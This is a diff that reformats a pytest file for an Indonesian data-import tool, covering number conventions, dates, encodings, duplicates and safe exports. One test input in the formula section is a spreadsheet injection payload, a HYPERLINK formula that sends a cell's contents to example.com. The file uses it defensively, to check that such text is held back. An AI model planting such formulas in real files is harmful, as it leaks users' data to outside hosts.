@@ -21,8 +21,9 @@ from hypothesis import strategies as st
 from inklusi import imports
 from inklusi.config import REPO
 
-HEADER = ("id,year,province,sector,start_date,end_date,completed,pre_score,post_score,online_before,"
-          "online_after,programme")
+HEADER = (
+    "id,year,province,sector,start_date,end_date,completed,pre_score,post_score,online_before,online_after,programme"
+)
 GOOD = "P-{n},2024,Jawa Barat,makanan,2024-05-06,2024-07-29,ya,42,55,tidak,ya,pendampingan-2024"
 INDICATORS = "province,year,indicator,value,unit,source"
 
@@ -105,17 +106,23 @@ def xls_file() -> bytes:
 def test_excel_imports_with_the_runtime_requirements_only(tmp_path):
     """openpyxl and every other test-only package cannot be imported here, as on a `make run` install."""
     (tmp_path / "office.xls").write_bytes(xls_file())
-    done = subprocess.run([sys.executable, "-c", RUNTIME_ONLY, str(tmp_path / "office.xls")], cwd=REPO,
-                          capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-c", RUNTIME_ONLY, str(tmp_path / "office.xls")],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert done.returncode == 0 and done.stdout.strip().endswith("ok"), done.stderr[-2000:]
 
 
 # ---- 1. numbers: the convention of a column, decided from the whole column ----------------------
 
+
 def indicator_file(values: list[str], delimiter: str = ",") -> bytes:
     lines = [INDICATORS.replace(",", delimiter)]
     provinces = ["Aceh", "Bali", "Jambi", "Riau", "Banten", "Gorontalo"]
-    for province, value in zip(provinces, values, strict=False):
+    for province, value in zip(provinces, values, strict=False):  # at most six provinces
         quoted = f'"{value}"' if delimiter in value else value
         lines.append(delimiter.join([province, "2024", "uji", quoted, "persen", "Diskominfo"]))
     return ("\n".join(lines) + "\n").encode()
@@ -128,20 +135,24 @@ def test_dot_decimals_are_never_read_as_thousands(delimiter):
     assert not held(result)
 
 
-@pytest.mark.parametrize("values, expected", [
-    (["12,5", "1.234,5", "7"], [12.5, 1234.5, 7.0]),          # Indonesian: decimal comma, thousands dot
-    (["1.234", "12,5"], [1234.0, 12.5]),                      # the comma elsewhere in the column decides
-    (["1,234.5", "2,000"], [1234.5, 2000.0]),                 # English: thousands comma
-    (["1.234.567", "3"], [1234567.0, 3.0]),
-    (["-0,5", "0"], [-0.5, 0.0]),
-])
+@pytest.mark.parametrize(
+    "values, expected",
+    [
+        (["12,5", "1.234,5", "7"], [12.5, 1234.5, 7.0]),  # Indonesian: decimal comma, thousands dot
+        (["1.234", "12,5"], [1234.0, 12.5]),  # the comma elsewhere in the column decides
+        (["1,234.5", "2,000"], [1234.5, 2000.0]),  # English: thousands comma
+        (["1.234.567", "3"], [1234567.0, 3.0]),
+        (["-0,5", "0"], [-0.5, 0.0]),
+    ],
+)
 def test_a_column_is_read_by_the_convention_its_values_show(values, expected):
     result = check(indicator_file(values, ";"), kind="indicators")
     assert list(result.accepted["value"]) == expected and not held(result)
 
 
-@pytest.mark.parametrize("delimiter, expected, reading", [(";", [1234.0, 2500.0], "thousands"),
-                                                         (",", [1.234, 2.5], "decimal")])
+@pytest.mark.parametrize(
+    "delimiter, expected, reading", [(";", [1234.0, 2500.0], "thousands"), (",", [1.234, 2.5], "decimal")]
+)
 def test_an_ambiguous_column_is_read_by_the_file_convention_and_says_so(delimiter, expected, reading):
     result = check(indicator_file(["1.234", "2.500"], delimiter), kind="indicators")
     assert list(result.accepted["value"]) == expected
@@ -158,8 +169,10 @@ def test_a_column_mixing_both_conventions_holds_back_what_is_ambiguous():
 
 # ---- 2. formulas -------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("value", ["=1+1", '=HYPERLINK("http://example.com/?d="&A1,"klik")', "+62812", "-tanpa",
-                                   "@SUM(A1)"])
+
+@pytest.mark.parametrize(
+    "value", ["=1+1", '=HYPERLINK("http://example.com/?d="&A1,"klik")', "+62812", "-tanpa", "@SUM(A1)"]
+)
 def test_text_that_a_spreadsheet_would_run_is_held_back(value):
     content = (HEADER + "\n" + GOOD.format(n=1).replace("pendampingan-2024", quoted(value)) + "\n").encode()
     result = check(content)
@@ -175,11 +188,14 @@ def test_the_validation_report_in_excel_holds_no_formula():
 
 # ---- 4. the report is one table Arrow can serialise, row numbers are whole numbers ---------------
 
+
 def test_the_report_has_one_type_per_column_and_whole_row_numbers():
-    content = (HEADER + ",catatan\n" + GOOD.format(n=1) + ",x\n" + GOOD.format(n=2).replace(",42,", ",420,")
-               + ",y\n").encode()
+    content = (
+        HEADER + ",catatan\n" + GOOD.format(n=1) + ",x\n" + GOOD.format(n=2).replace(",42,", ",420,") + ",y\n"
+    ).encode()
     report = check(content).report("en")
     import pyarrow as pa
+
     pa.Table.from_pandas(report)  # raises on a column mixing numbers and text
     assert "\n3,pre_score,420," in report.to_csv(index=False) and "3.0" not in report.to_csv(index=False)
 
@@ -192,11 +208,16 @@ def test_a_clean_file_with_official_names_has_no_report():
 
 # ---- 5. files offices have --------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("name", ["export.txt", "export.csv"])
 def test_excel_unicode_text_is_read(name):
     """Excel's "Unicode text": UTF-16 with a BOM, tab-separated, decimal commas in an Indonesian locale."""
-    text = HEADER.replace(",", "\t") + "\r\n" + "\r\n".join(r.replace(",", "\t").replace("\t42\t", "\t42,5\t")
-                                                           for r in rows(2)) + "\r\n"
+    text = (
+        HEADER.replace(",", "\t")
+        + "\r\n"
+        + "\r\n".join(r.replace(",", "\t").replace("\t42\t", "\t42,5\t") for r in rows(2))
+        + "\r\n"
+    )
     result = check(text.encode("utf-16"), name)
     assert len(result.accepted) == 2 and list(result.accepted["pre_score"]) == [42.5, 42.5]
 
@@ -227,6 +248,7 @@ def test_a_header_below_a_title_and_a_merged_group_header_is_found():
 
 # ---- 6. row numbers as the file shows them, and codes that mean two provinces ------------------
 
+
 def test_row_numbers_count_blank_lines():
     lines = [HEADER, *rows(4), "", "", *rows(3, 5), "", *rows(3, 8)]
     lines[13] = lines[13].replace(",42,", ",4x2,")  # file row 14
@@ -252,14 +274,27 @@ def test_a_code_that_is_the_same_in_both_lists_is_read():
 
 # ---- 7. dates ------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("start, expected", [
-    ("6 Mei 2024", date(2024, 5, 6)), ("06-Agustus-2024", date(2024, 8, 6)), ("6 May 2024", date(2024, 5, 6)),
-    ("May 6, 2024", date(2024, 5, 6)), ("6 Agt 2024", date(2024, 8, 6)), ("45418", date(2024, 5, 6)),
-    ("06/05/2024", date(2024, 5, 6)), ("2024-05-06 00:00:00", date(2024, 5, 6)),
-])
+
+@pytest.mark.parametrize(
+    "start, expected",
+    [
+        ("6 Mei 2024", date(2024, 5, 6)),
+        ("06-Agustus-2024", date(2024, 8, 6)),
+        ("6 May 2024", date(2024, 5, 6)),
+        ("May 6, 2024", date(2024, 5, 6)),
+        ("6 Agt 2024", date(2024, 8, 6)),
+        ("45418", date(2024, 5, 6)),
+        ("06/05/2024", date(2024, 5, 6)),
+        ("2024-05-06 00:00:00", date(2024, 5, 6)),
+    ],
+)
 def test_dates_as_offices_write_them(start, expected):
-    content = (HEADER + "\n" + GOOD.format(n=1).replace("2024-05-06", quoted(start)).replace("2024-07-29", "30 Sep 2024")
-               + "\n").encode()
+    content = (
+        HEADER
+        + "\n"
+        + GOOD.format(n=1).replace("2024-05-06", quoted(start)).replace("2024-07-29", "30 Sep 2024")
+        + "\n"
+    ).encode()
     result = check(content)
     assert not held(result), result.problems
     assert result.accepted["start_date"].iloc[0] == expected
@@ -272,6 +307,7 @@ def test_a_date_range_in_one_cell_is_refused_not_cut():
 
 
 # ---- 8. text kept whole, encodings decided from the whole file, a split decimal named ------------
+
 
 def test_long_text_is_refused_with_the_limit_not_cut():
     long_name = "Program Pendampingan " + "x" * 215
@@ -300,6 +336,7 @@ def test_an_unquoted_decimal_comma_holds_back_its_row_only():
 
 # ---- 9. duplicates -----------------------------------------------------------------------------
 
+
 def test_an_id_repeated_on_an_invalid_row_holds_back_both_rows():
     lines = [HEADER, GOOD.format(n=1), GOOD.format(n=1).replace(",42,", ",420,"), GOOD.format(n=2)]
     result = check(("\n".join(lines) + "\n").encode())
@@ -309,10 +346,27 @@ def test_an_id_repeated_on_an_invalid_row_holds_back_both_rows():
 
 # ---- 3. the shell export never destroys a file ------------------------------------------------
 
+
 def export(*args):
-    return subprocess.run([sys.executable, "-m", "inklusi", "export", "--query", "national_series", "--param",
-                           "indicator=imdi", "--format", "csv", *args], capture_output=True, text=True, cwd=REPO,
-                          timeout=120)
+    return subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "inklusi",
+            "export",
+            "--query",
+            "national_series",
+            "--param",
+            "indicator=imdi",
+            "--format",
+            "csv",
+            *args,
+        ],
+        capture_output=True,
+        text=True,
+        cwd=REPO,
+        timeout=120,
+    )
 
 
 def test_an_existing_file_is_not_overwritten_without_force(tmp_path):
@@ -349,17 +403,38 @@ def test_a_target_that_is_not_a_regular_file_is_refused(tmp_path):
 
 
 def test_a_huge_integer_parameter_is_refused(tmp_path):
-    done = subprocess.run([sys.executable, "-m", "inklusi", "export", "--query", "indicator_by_province",
-                           "--param", "indicator=imdi", "--param", "year=99999999999999999999", "--format", "csv",
-                           "--out", str(tmp_path / "x.csv")], capture_output=True, text=True, cwd=REPO, timeout=120)
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "inklusi",
+            "export",
+            "--query",
+            "indicator_by_province",
+            "--param",
+            "indicator=imdi",
+            "--param",
+            "year=99999999999999999999",
+            "--format",
+            "csv",
+            "--out",
+            str(tmp_path / "x.csv"),
+        ],
+        capture_output=True,
+        text=True,
+        cwd=REPO,
+        timeout=120,
+    )
     assert done.returncode == 2 and "year" in done.stderr and "Traceback" not in done.stderr
     assert list(tmp_path.iterdir()) == []
 
 
 # ---- exports of text a spreadsheet would run -----------------------------------------------------
 
+
 def test_exports_write_formula_text_as_inert_text():
     from inklusi import export
+
     frame = pd.DataFrame({"id": ["=1+1", "@SUM(A1)", "biasa"], "value": [-1.5, 2.0, 3.0]})
     view = export.View("", {}, frame)
     book = openpyxl.load_workbook(io.BytesIO(export.encode(view, "xlsx")))
@@ -372,6 +447,7 @@ def test_exports_write_formula_text_as_inert_text():
 
 # ---- a corpus of both conventions: no value is ever silently changed -----------------------------
 
+
 def written(value: float, convention: str, grouped: bool) -> str:
     """A number as a spreadsheet in that convention writes it."""
     text = f"{value:,.3f}" if grouped else f"{value:.3f}"
@@ -382,15 +458,18 @@ def written(value: float, convention: str, grouped: bool) -> str:
 
 
 @settings(max_examples=200, deadline=None)
-@given(st.lists(st.tuples(st.integers(0, 9_999_999).map(lambda n: n / 1000), st.booleans()), min_size=1, max_size=6),
-       st.sampled_from([(";", "comma"), (",", "dot")]))
+@given(
+    st.lists(st.tuples(st.integers(0, 9_999_999).map(lambda n: n / 1000), st.booleans()), min_size=1, max_size=6),
+    st.sampled_from([(";", "comma"), (",", "dot")]),
+)
 def test_numbers_in_either_convention_read_back_exactly(cells, file):
     delimiter, convention = file
     texts = [written(value, convention, grouped) for value, grouped in cells]
     result = check(indicator_file(texts, delimiter), kind="indicators")
     assert list(result.accepted["value"]) == [value for value, _ in cells][:6], (texts, result.problems)
-    ambiguous_only = all(re.fullmatch(r"-?\d+|[1-9]\d{0,2}[.,]\d{3}", t) for t in texts) and \
-        any(re.fullmatch(r"[1-9]\d{0,2}[.,]\d{3}", t) for t in texts)
+    ambiguous_only = all(re.fullmatch(r"-?\d+|[1-9]\d{0,2}[.,]\d{3}", t) for t in texts) and any(
+        re.fullmatch(r"[1-9]\d{0,2}[.,]\d{3}", t) for t in texts
+    )
     assert any(p.key == "number_reading" for p in result.problems) == ambiguous_only
 
 
